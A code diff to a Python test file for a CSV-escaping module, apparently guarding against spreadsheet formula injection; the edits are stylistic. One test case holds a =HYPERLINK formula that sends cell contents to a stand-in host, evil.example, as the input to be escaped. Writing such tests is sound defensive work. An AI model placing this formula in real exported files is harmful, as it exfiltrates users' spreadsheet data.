@@ -14,7 +14,7 @@ from wecare import safe_csv
 
 # Text that leans on the characters that matter here, plus anything else Unicode has (lone
 # surrogates excluded: they cannot be written to a UTF-8 file at all).
-TRICKY = st.sampled_from(list(safe_csv.FORMULA_START) + ["'", '"', ",", "\n", "a", "1", " "])
+TRICKY = st.sampled_from([*safe_csv.FORMULA_START, "'", '"', ",", "\n", "a", "1", " "])
 CELL = st.lists(st.one_of(TRICKY, st.characters(exclude_categories=["Cs"])), max_size=12).map("".join)
 
 
@@ -40,7 +40,7 @@ def test_what_is_written_reads_back_exactly(rows):
 
 
 @pytest.mark.parametrize(
-    "value,cell",
+    ("value", "cell"),
     [
         ('=HYPERLINK("http://evil.example/?c="&C2&D2,"Click for invoice")', '\'=HYPERLINK("http://evil.example/?c="&C2&D2,"Click for invoice")'),
         ("+919876543210", "'+919876543210"),
